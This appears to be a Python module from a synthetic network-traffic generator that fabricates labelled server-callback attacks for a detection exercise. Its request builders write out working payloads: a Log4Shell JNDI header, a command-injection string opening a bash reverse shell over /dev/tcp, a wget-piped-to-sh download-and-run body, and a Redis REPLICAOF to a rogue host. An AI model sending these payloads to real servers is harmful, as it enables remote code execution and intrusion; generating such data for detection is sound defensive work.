"""Who makes a server call somebody: an address in a request, and the server connects to it.

As documented: CVE-2021-44228 (JNDI look-ups in whatever is logged), injected commands of the shell (OWASP,
"OS Command Injection"), Redis' REPLICAOF with a rogue server.
SPDX-License-Identifier: GPL-2.0-or-later
"""
from functools import partial

import payload
from lan import SECOND, Connection, Host, refused, unanswered


def port_of(scene):
    return scene.random.choice((1389, 4444, 8888, 443, scene.random.randrange(1025, 65000)))


def jndi(address, port, server):
    return payload.http_get(server.text.encode(), b"/", b"X-Api-Version: ${jndi:ldap://%s:%d/a}\r\n" % (
        address, port))


def shell(address, port, server):
    return payload.http_get(server.text.encode(), b"/cgi-bin/ping.cgi?host=%%3Bbash%%20-c%%20%%22bash%%20-i%%20%%3E%%26%%20"
                            b"/dev/tcp/%s/%d%%200%%3E%%261%%22" % (address, port))


def fetch(address, port, server):
    body = b"cmd=wget+http%%3A%%2F%%2F%s%%3A%d%%2Fx.sh+-O-+%%7C+sh" % (address, port)
    return (b"POST /tools/run.php HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: %d\r\n\r\n" % (server.text.encode(), len(body))) + body


def replica(address, port, server):
    return b"REPLICAOF %s %d\r\n" % (address, port)


REQUESTS = ((jndi, 8080), (jndi, 80), (shell, 80), (fetch, 8080), (replica, 6379))


def make(scene, attacker, server, home, written, connects=True):
    """`written`: the address of `home` as requests have it."""
    request, port = scene.random.choice(REQUESTS[:3] if ":" in home.text else REQUESTS)
    to = port_of(scene)
    time = scene.at(scene.random.uniform(60, 300))
    for _ in range(2):
        connection = Connection(scene.lan, time, attacker, server, port)
        connection.client(request(written.encode(), to, server))
        connection.server(b"+OK\r\n" if request is replica else payload.http_ok(b"ok")).close()
        time += scene.lan.between(0.1, 0.2)
    time = connection.start + scene.lan.between(0.3, 12)
    if connects:
        called = Connection(scene.lan, time, server, home, to)
        called.client(b"$ ").server(b"id\n").client(b"uid=33(www-data) gid=33(www-data)\n")
        called.wait(scene.random.uniform(1, 60)).close()
    elif scene.random.random() < 0.5:
        refused(scene.lan, time, server, home, to)
    else:
        for after in (0, 1, 3):
            unanswered(scene.lan, time + after * SECOND, server, home, to, 40000, 7)
    scene.suspect(server, "called-back")
    scene.suspect(attacker, "called-back")


def from_outside(scene, connects=True):
    """The attacker names himself, or another of his hosts."""
    attacker = scene.outside()
    home = attacker if scene.random.random() < 0.5 else scene.outside()
    make(scene, attacker, scene.intranet, home, home.text, connects)


def from_inside(scene):
    attacker = scene.desk()
    make(scene, attacker, scene.intranet, attacker, attacker.text)


def ipv6(scene):
    network = scene.random.randrange(0x10000)
    server = Host("web", f"fd00:{network:x}::80", ":".join(f"{byte:02x}" for byte in scene.intranet.mac))
    attacker = Host("", f"2a01:{network:x}::{scene.random.randrange(2, 999):x}")
    home = Host("", f"2a01:{network:x}:1::{scene.random.randrange(2, 999):x}")
    make(scene, attacker, server, home, f"[{home.text}]")
    scene.truth.suspects[0][0] += [scene.intranet.text]


KINDS = {"told-by-outside": from_outside, "told-by-outside-dead": partial(from_outside, connects=False),
         "told-by-inside": from_inside, "told-ipv6": ipv6}
